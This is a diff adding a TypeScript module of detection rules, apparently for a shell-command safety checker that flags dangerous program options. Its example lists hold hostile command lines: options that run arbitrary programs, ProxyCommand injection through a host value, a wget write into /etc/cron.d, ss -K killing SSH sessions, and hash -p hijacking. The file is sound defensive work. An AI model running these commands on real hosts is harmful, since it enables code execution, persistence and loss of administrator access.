@@ -1,0 +1,79 @@
+import type { Cmd } from "../command.ts";
+import { optionSignal, optionValues, programOf } from "../programs/index.ts";
+import type { Rule } from "../rule.ts";
+
+/** Values that are a program or a command line: option values, and strace/ltrace `-o '|cmd'` outputs. */
+export function programValues(cmd: Cmd): string[] {
+  return [
+    ...optionValues(cmd, "program").map((a) => a.text),
+    ...optionValues(cmd, "command").map((a) => a.text),
+    ...optionValues(cmd, "writes").filter((a) => /^[|!]/.test(a.text)).map((a) => a.text.slice(1)),
+  ];
+}
+
+/**
+ * What a program's options do, read with its option table (programs/table.ts): options the table does not know,
+ * options whose value is a program or a command, values that smuggle options into another program, options that
+ * load more options from a file, and options that change host state from tools that otherwise only read.
+ */
+export const OPTION_RULES: readonly Rule[] = [
+  {
+    id: "unknown_option", severity: "medium",
+    reason: "an option this program's table does not know (or one only known at run time); what it does was not checked",
+    commands: ["*"],
+    test: (cmd) => (programOf(cmd)?.unknown.length ?? 0) > 0,
+    examples: { match: ["sort --frobnicate x", "ls -la --no-such-option", "sort $OPTS big.txt", "df --frob /"], noMatch: ["sort -u x", "ls -la /etc", "ss -ltnp", "sort -rn --key=2"] },
+  },
+  {
+    id: "option_runs_program", severity: "high",
+    reason: "an option whose value is a program or a command line the tool runs (dynamic code)",
+    commands: ["*"],
+    test: (cmd) => programValues(cmd).length > 0,
+    examples: {
+      match: ["sort --compress-program=./x.sh -S1b big.txt", "sort --compress-prog=sh -S1b big.txt", "zip x.zip f -T -TT 'cmd'", "split -b1 --filter='sh' payload",
+        "rsync -e 'sh -c id' a b:", "strace -o '|sh' true", "tcpdump -i eth0 -w x.pcap -z ./rotate.sh", "install --strip-program=./x a /usr/local/bin/a",
+        "git archive --remote=x --exec='sh -c id' HEAD", "scp -S ./prog f host:"],
+      noMatch: ["sort -o out.txt in.txt", "zip -r site.zip site", "split -l 1000 big.txt part-", "rsync -av ./a ./b"],
+    },
+  },
+  {
+    id: "option_injection", severity: "high",
+    reason: "a host or target value that starts with '-' is read as an option by the program it is handed to (ssh -oProxyCommand…)",
+    commands: ["*"],
+    test: (cmd) => optionValues(cmd, "host").some((a) => a.text.startsWith("-")),
+    examples: { match: ["systemctl -H '-oProxyCommand=touch /tmp/p' show-environment", "systemctl --host=-oProxyCommand=x status", "ssh -J -oProxyCommand=x h"], noMatch: ["systemctl -H admin@db.example.com status nginx"] },
+  },
+  {
+    id: "options_from_file", severity: "high",
+    reason: "reads further options or settings from a file or string the engine does not read (they may write files or run programs)",
+    commands: ["*"],
+    test: (cmd) => optionSignal(cmd, "options_from_file"),
+    examples: { match: ["curl -K ./opts.txt", "wget -e output_document=/etc/cron.d/x https://x.example", "ssh -F ./cfg host", "scp -F cfg f host:"], noMatch: ["curl -s https://x.example", "ssh host uptime"] },
+  },
+  {
+    id: "kills_connections", severity: "high",
+    reason: "closes network connections or sessions (ss -K drops every matching socket, including SSH sessions)",
+    commands: ["*"],
+    test: (cmd) => optionSignal(cmd, "kills_connections"),
+    examples: { match: ["ss -K state established '( sport = :ssh )'", "ss --kill dport = 22", "ss -tK dst 10.0.0.1", "sudo ss -nK sport = :22", "ss --kil dport = 22"], noMatch: ["ss -ltnp", "ss -s", "ss -tan state established"] },
+  },
+  {
+    id: "host_state_change", severity: "medium",
+    reason: "sets host state (clock, host name) with a tool that otherwise only reads",
+    commands: ["date", "hostname"],
+    test: (cmd) => {
+      if (optionSignal(cmd, "host_state_change")) return true;
+      const ops = programOf(cmd)?.operands ?? [];
+      // date MMDDhhmm[[CC]YY][.ss] sets the clock; hostname NAME sets the host name.
+      return cmd.name === "date" ? ops.some((a) => !a.text.startsWith("+")) : ops.length > 0;
+    },
+    examples: { match: ["date -s '2020-01-01 00:00'", "date --set=tomorrow", "date 010100002030", "hostname evil", "hostname -F /tmp/name"], noMatch: ["date -u +%Y-%m-%dT%H:%M:%SZ", "date", "hostname -f", "hostname"] },
+  },
+  {
+    id: "command_path_override", severity: "high",
+    reason: "changes which file a command name runs (hash -p), so later bare names are not the system programs",
+    commands: ["hash"],
+    test: (cmd) => cmd.args.some((a) => /^-[a-zA-Z]*p/.test(a.text)),
+    examples: { match: ["hash -p /tmp/x ls; ls"], noMatch: ["hash", "hash -r"] },
+  },
+];
